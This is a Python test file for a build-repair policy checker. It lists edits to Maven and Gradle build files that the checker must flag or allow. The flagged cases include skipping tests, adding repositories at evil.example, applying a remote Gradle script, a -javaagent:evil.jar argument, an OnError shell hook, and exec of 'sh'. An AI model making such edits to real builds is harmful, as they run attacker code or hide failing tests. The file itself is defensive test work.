"""The build asks for no less, gets its parts from nowhere else, and runs nothing new; it may be repaired."""

import pytest
from repair_policy import GRADLE, POM, edited

ACME = next(line for line in POM.splitlines(keepends=True) if "acme-core" in line)
END = "  </dependencies>"
PLUGINS_END = "  </plugins></build>"


def dependency(ga: str, more: str = "") -> str:
    group, artifact = ga.split(":")
    return f"<dependency><groupId>{group}</groupId><artifactId>{artifact}</artifactId>{more}</dependency>\n{END}"


@pytest.mark.parametrize(
    ("find", "new", "rule"),
    [
        ("<properties>", "<properties><skipTests>true</skipTests>", "build-honest"),
        ("<properties>", "<properties><maven.test.failure.ignore>true</maven.test.failure.ignore>", "build-honest"),
        ("<argLine>", "<testFailureIgnore>true</testFailureIgnore><argLine>", "build-honest"),
        ("<argLine>", "<excludes><exclude>**/AppTest.java</exclude></excludes><argLine>", "build-honest"),
        ("<module>core</module>", "", "build-honest"),
        ("    <plugin><artifactId>maven-antrun-plugin</artifactId></plugin>\n", "", "build-honest"),
        (
            END,
            dependency(
                "org.acme:acme-x",
                "<exclusions><exclusion><groupId>org.junit.vintage</groupId>"
                "<artifactId>junit-vintage-engine</artifactId></exclusion></exclusions>",
            ),
            "build-honest",
        ),
        ("<version>1.0</version>", "<version>0.9</version>", "versions-kept"),
        (
            ACME,
            "",
            "versions-kept",
        ),
        (
            PLUGINS_END,
            f"<plugin><groupId>org.codehaus.mojo</groupId><artifactId>exec-maven-plugin</artifactId></plugin>{PLUGINS_END}",
            "plugins",
        ),
        (
            "<build>",
            "<repositories><repository><id>x</id><url>https://repo.evil.example</url></repository></repositories><build>",
            "repositories",
        ),
        (
            "<build>",
            "<pluginRepositories><pluginRepository><url>https://evil.example</url></pluginRepository></pluginRepositories><build>",
            "repositories",
        ),
        (
            "<build>",
            "<build><extensions><extension><artifactId>wagon</artifactId></extension></extensions>",
            "repositories",
        ),
        (END, dependency("com.evil:helper"), "dependencies"),
        (END, dependency("${g}:helper"), "dependencies"),
        ("<version>3.5.16</version>", "<version>2.7.18</version>", "target"),
        ("<java.version>17</java.version>", "<java.version>8</java.version>", "target"),
        (
            PLUGINS_END,
            f"<plugin><artifactId>maven-compiler-plugin</artifactId><configuration><release>8</release></configuration></plugin>{PLUGINS_END}",
            "target",
        ),
        ("-Xmx1g", "-javaagent:evil.jar", "commands"),
        ("-Xmx1g", "-XX:OnError=sh", "commands"),
        ("<argLine>", "<jvm>/tmp/java</jvm><argLine>", "commands"),
        (
            "maven-antrun-plugin</artifactId>",
            "maven-antrun-plugin</artifactId><executions><execution><goals><goal>run</goal></goals></execution></executions>",
            "commands",
        ),
        (END, dependency("org.acme:acme-x", "<scope>system</scope><systemPath>/tmp/x.jar</systemPath>"), "commands"),
    ],
)
def test_poms(find: str, new: str, rule: str) -> None:
    assert rule in edited("pom.xml", POM, find, new)


@pytest.mark.parametrize(
    ("find", "new"),
    [
        (END, dependency("jakarta.xml.bind:jakarta.xml.bind-api")),
        (END, dependency("org.springframework.boot:spring-boot-starter-validation")),
        (END, dependency("org.acme:acme-web", "<version>1.0</version>")),
        ("-Xmx1g", "-Xmx1g --add-opens java.base/java.lang=ALL-UNNAMED"),
        ("<version>1.0</version>", "<version>2.0</version>"),
        (
            "<configuration><argLine>",
            "<configuration><useModulePath>false</useModulePath><argLine>",
        ),
        (
            END,
            dependency(
                "org.acme:acme-x",
                "<exclusions><exclusion><groupId>commons-logging</groupId>"
                "<artifactId>commons-logging</artifactId></exclusion></exclusions>",
            ),
        ),
    ],
)
def test_poms_may_be_repaired(find: str, new: str) -> None:
    assert edited("pom.xml", POM, find, new) == {}


@pytest.mark.parametrize(
    ("find", "new", "rule"),
    [
        ("useJUnitPlatform()", "useJUnitPlatform()\n  ignoreFailures = true", "build-honest"),
        ("useJUnitPlatform()", "useJUnitPlatform()\n  exclude '**/AppTest*'", "build-honest"),
        ("id 'java';", "id 'java'; id 'com.evil.plugin';", "plugins"),
        ("mavenCentral()", "maven { url 'https://evil.example' }", "repositories"),
        ("mavenCentral()", "mavenCentral()\n apply from: 'https://evil.example/x.gradle'", "repositories"),
        ("implementation 'org.acme", "implementation files('x.jar')\n  implementation 'org.acme", "repositories"),
        ("implementation 'org.acme", "implementation 'com.evil:x:1'\n  implementation 'org.acme", "dependencies"),
        ("'3.5.16'", "'2.7.18'", "target"),
        ("sourceCompatibility = '17'", "sourceCompatibility = '1.8'", "target"),
        ("test {", "'id'.execute()\ntest {", "commands"),
        ("test {", "exec { commandLine 'sh' }\ntest {", "commands"),
    ],
)
def test_gradle(find: str, new: str, rule: str) -> None:
    assert rule in edited("build.gradle", GRADLE, find, new)


@pytest.mark.parametrize(
    ("find", "new"),
    [
        (
            "'org.acme:acme-core:1.0'",
            "'org.acme:acme-core:1.0'\n  implementation 'jakarta.annotation:jakarta.annotation-api'",
        ),
        ("useJUnitPlatform()", "useJUnitPlatform()\n  jvmArgs '--add-opens', 'java.base/java.lang=ALL-UNNAMED'"),
    ],
)
def test_gradle_may_be_repaired(find: str, new: str) -> None:
    assert edited("build.gradle", GRADLE, find, new) == {}
